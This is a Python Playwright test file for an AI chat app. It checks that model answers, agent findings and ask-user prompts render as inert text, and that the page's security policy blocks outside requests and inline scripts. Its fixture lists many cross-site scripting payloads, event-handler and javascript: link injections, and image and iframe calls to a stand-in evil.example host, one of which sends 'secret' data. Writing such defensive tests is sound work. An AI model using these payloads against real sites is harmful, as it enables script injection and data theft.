"""What notes and models write is text to the page: it runs nothing, loads nothing, and leads nowhere by itself."""

import socket
from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, expect

from tests.agents import scripts
from tests.agents.scripted import Call, Model
from tests.agents.scripts import Cast
from tests.page import sites
from tests.page.sites import answered, say

pytestmark = pytest.mark.timeout(150)
CHAT = "/app/chat/new"
PICTURE = "<img src=x onerror=\"document.title='owned'\">"
EVIL = "http://evil.example/steal"
HOSTILE = f"""# <img src=x onerror="document.title='owned'">

<script>document.title = 'owned'</script>
<iframe src="{EVIL}"></iframe><style>body {{ display: none }}</style>
<svg onload="document.title='owned'"></svg> <a href="javascript:document.title='owned'">html</a>

![pixel]({EVIL}?data=secret) and ![[{EVIL}]] and [![inside]({EVIL}?in)](javascript:document.title='owned')

[click](javascript:document.title='owned') [tab](java\tscript:document.title='owned')
[upper](JaVaScRiPt:document.title='owned') [data](data:text/html,<script>parent.document.title='owned'</script>)
[vb](vbscript:x) [blob](blob:http://x/1) [file](file:///etc/passwd) [mine](//evil.example/x)
<javascript:document.title='owned'> <{EVIL}?angled>

[outside]({EVIL}?clicked "title\\" onclick=document.title='owned'") [[javascript:document.title='owned'|wiki]]

| <b onmouseover=document.title='owned'>cell</b> | `code <script>` |
|---|---|
| {{{{7*7}}}} | ${{document.title='owned'}} |

```html" onmouseover="document.title='owned'
</code></pre><script>document.title='owned'</script>
```

> [!x" onclick="document.title='owned']
- [x] <input autofocus onfocus="document.title='owned'">
"""


def strangers(tab: Page, address: str) -> list[str]:
    """Note every request that goes elsewhere."""
    found: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(address):
            found.append(request.url)

    tab.on("request", note)
    return found


def check(tab: Page, place: str) -> None:
    """See that a place shows the text, without anything made of it but what the page itself draws."""
    node = tab.locator(place)
    made = node.locator("img, script, iframe, style, svg:not(.k-icon), object, embed, link, meta, base")
    expect(made).to_have_count(0)
    assert tab.title().replace(PICTURE, "").find("owned") < 0
    leads = "all => all.map(a => a.href).filter(a => !/^(https?|mailto):/.test(a))"
    assert node.locator("a").evaluate_all(leads) == []
    open_to = "all => all.filter(a => a.host !== location.host && !a.rel.includes('noopener')).map(a => a.href)"
    assert node.locator("a").evaluate_all(open_to) == []
    handlers = "all => all.flatMap(n => n.getAttributeNames()).filter(n => n.startsWith('on'))"
    assert node.locator("*").evaluate_all(handlers) == []


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\u2028\n"])
def test_an_answer_runs_and_loads_nothing(tmp_path: Path, tab: Page, ending: str) -> None:
    with sites.serving(tmp_path, Model([[HOSTILE.replace("\n", ending)]]).open) as site:
        elsewhere = strangers(tab, site.address)
        site.enter(tab, CHAT)
        say(tab, "Show me")
        answered(tab)
        for _ in range(2):  # as it came, and as it is kept
            expect(tab.locator(".k-answer")).to_contain_text("<script>")
            check(tab, ".k-answer")
            tab.reload()

        assert elsewhere == []


def test_what_agents_find_and_ask_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
    ask = Call("ask_user", {"question": PICTURE, "options": [PICTURE]})
    found = scripts.select("Evil.md", reasoning=HOSTILE)
    model = Cast({"scout": [[ask], [found]], "task": [scripts.task(HOSTILE, ("Evil.md", "line:999", PICTURE))]})
    with sites.serving(tmp_path, model.open, notes={"Evil.md": HOSTILE}) as site:
        elsewhere = strangers(tab, site.address)
        site.enter(tab, CHAT)
        tab.get_by_role("button", name="Scout", exact=True).click()
        say(tab, PICTURE)
        expect(tab.locator(".k-asked")).to_contain_text("<img src=x")
        check(tab, "main")
        tab.locator(".k-asked").get_by_role("button", name=PICTURE).click()
        answered(tab)
        tab.locator("[data-finding=selection] > summary").click()
        expect(tab.locator("[data-finding=selection]")).to_contain_text("<script>")
        check(tab, "main")

        assert elsewhere == []


def test_the_browser_itself_refuses_what_the_page_would_not_do(tmp_path: Path, tab: Page) -> None:
    with sites.serving(tmp_path, Model([["Hi."]]).open) as site, socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        site.enter(tab)
        title = tab.title()
        refused = tab.evaluate(
            """async (port) => {
              const tried = [];
              const note = (name) => () => tried.push(name);
              try { document.body.innerHTML = "<b>x</b>"; } catch { tried.push("markup"); }
              await fetch(`http://127.0.0.1:${port}/`, { mode: "no-cors" }).catch(note("fetch"));
              const picture = new Image();
              picture.src = `http://127.0.0.1:${port}/picture`;
              await picture.decode().catch(note("picture"));
              const inline = document.createElement("script");
              try {
                inline.textContent = "document.title = 'owned'";
                document.body.append(inline);
              } catch { tried.push("script"); }
              return tried;
            }""",
            elsewhere.getsockname()[1],
        )

        assert refused == ["markup", "fetch", "picture", "script"]
        with pytest.raises(BlockingIOError):
            elsewhere.accept()
        assert tab.title() == title
